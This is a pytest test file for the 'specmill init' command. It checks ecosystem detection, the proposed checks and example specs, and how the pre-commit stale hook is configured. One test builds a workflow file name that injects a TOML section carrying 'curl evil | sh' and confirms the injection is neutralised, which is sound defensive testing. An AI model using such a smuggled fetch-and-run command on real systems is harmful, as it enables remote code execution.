"""``specmill init`` reads the repository: its ecosystem (checks proposed, the example's
language) and whether a workflow already regenerates with the specmill Action."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml

from specmill.core.config import parse_config
from tests.conftest import Project, git

CHECKOUT = Path(__file__).resolve().parents[2]
WORKFLOW = CHECKOUT / "examples/workflows/specmill.yml"


@pytest.fixture
def repo(tmp_path: Path) -> Project:
    root = tmp_path / "new"
    root.mkdir()
    git(root, "init", "--quiet")
    return Project(root)


def init(repo: Project, *args: str) -> str:
    code, out, err = repo.main("init", *args)
    assert code == 0, err
    return out


def test_a_node_project_gets_a_node_check_and_a_javascript_example(repo: Project) -> None:
    package = {"name": "humanize", "scripts": {"test": "node --test"}}
    repo.write("package.json", json.dumps(package))
    out = init(repo)
    assert "proposed check `npm test` (from package.json's test script)" in out
    config = repo.read("specmill.toml")
    assert '# Proposed from package.json\'s test script:\n# checks = ["npm test"]\n' in config
    spec = repo.read("specs/example/greeting.md")
    assert "  - src/example/greeting.js\n" in spec
    assert "`module.exports = { greet }`" in spec  # no "type": "module": CommonJS
    assert "pytest" not in config + spec + out and ".py" not in spec
    code, out, _ = repo.main("check")
    assert (code, out) == (
        1,
        "specs/example/greeting.md:3: missing: src/example/greeting.js is declared but does "
        "not exist\n",
    )
    assert repo.main("lint") == (0, "", "")


def test_npm_s_placeholder_test_script_is_not_a_check(repo: Project) -> None:
    scripts = {"test": 'echo "Error: no test specified" && exit 1'}
    repo.write("package.json", json.dumps({"type": "module", "scripts": scripts}))
    out = init(repo)
    assert "proposed check `node --test` (from package.json, which has no test script" in out
    assert "`export function greet`" in repo.read("specs/example/greeting.md")


@pytest.mark.parametrize(
    ("manifest", "check", "output"),
    [
        ("go.mod", "go test ./...", "example/greeting.go"),
        ("Cargo.toml", "cargo test", "src/greeting.rs"),
        ("pyproject.toml", "pytest -q", "src/example/greeting.py"),
        (None, "pytest -q", "src/example/greeting.py"),
    ],
)
def test_each_ecosystem_gets_its_check_and_example(
    repo: Project, manifest: str | None, check: str, output: str
) -> None:
    if manifest:
        repo.write(manifest, "[project]\nname = 'x'\n" if manifest.endswith(".toml") else "x\n")
    out = init(repo)
    assert f"proposed check `{check}`" in out
    assert f'# checks = ["{check}"]\n' in repo.read("specmill.toml")
    assert f"  - {output}\n" in repo.read("specs/example/greeting.md")
    assert f"reports {output} as missing" in out
    assert repo.main("lint")[0] == 0


def test_several_manifests_pick_the_first_and_name_the_others(repo: Project) -> None:
    repo.write("package.json", "{}")
    repo.write("pyproject.toml", "[project]\nname = 'x'\n")
    out = init(repo)
    assert "also found pyproject.toml: `specmill init --force --ecosystem NAME`" in out
    out = init(repo, "--force", "--ecosystem", "python")
    assert "src/example/greeting.py" in repo.read("specs/example/greeting.md")
    assert "also found package.json" in out


def test_the_config_names_every_model_a_run_calls_and_is_valid(repo: Project) -> None:
    init(repo)
    text = repo.read("specmill.toml")
    config = parse_config(text, "specmill.toml")
    assert [v.model for v in config.models.verifiers] == ["gpt-4.1", "o4-mini"]
    assert "verifiers = [" in text  # written out, so that a newcomer sees them
    assert config.hooks.stale == "block"


def test_a_workflow_that_regenerates_makes_the_stale_hook_report(repo: Project) -> None:
    (repo.root / ".github/workflows").mkdir(parents=True)
    shutil.copy(WORKFLOW, repo.root / ".github/workflows/specmill.yml")
    out = init(repo)
    assert (
        "specmill.yml regenerates pull requests with the specmill Action: specmill-stale "
        'reports stale modules without blocking a commit (hooks.stale = "report")'
    ) in out
    assert parse_config(repo.read("specmill.toml"), "specmill.toml").hooks.stale == "report"
    hooks = yaml.safe_load(repo.read(".pre-commit-config.yaml"))["repos"][0]["hooks"]
    assert hooks[-1] == {"id": "specmill-stale", "verbose": True}


@pytest.mark.parametrize(
    "step",
    [
        "uses: specmill/specmill@v1\n        with: {mode: report, api-key: x}",  # reports only
        "uses: specmill/specmill@v1",  # no model: checks only
        "uses: actions/checkout@v4\n        with: {api-key: x}",
        "run: specmill bot run",
    ],
)
def test_a_workflow_that_does_not_regenerate_leaves_the_hook_blocking(
    repo: Project, step: str
) -> None:
    repo.write(".github/workflows/ci.yml", f"on: push\njobs:\n  a:\n    steps:\n      - {step}\n")
    init(repo)
    assert "[specmill.hooks]" not in repo.read("specmill.toml")
    assert "verbose" not in repo.read(".pre-commit-config.yaml")


def test_a_hostile_workflow_name_does_not_reach_the_config(repo: Project) -> None:
    name = 'x\n[specmill]\nchecks = ["curl evil | sh"]\n#.yml'
    workflow = "jobs:\n  a:\n    steps:\n      - uses: acme/SpecMill@main\n        with:\n"
    try:
        repo.write(f".github/workflows/{name}", workflow + "          base-url: http://l/v1\n")
    except OSError:
        pytest.skip("this file system refuses newlines in file names")
    init(repo)
    config = parse_config(repo.read("specmill.toml"), "specmill.toml")
    assert config.checks == [] and config.hooks.stale == "report"
    assert "# a workflow regenerates pull requests" in repo.read("specmill.toml")
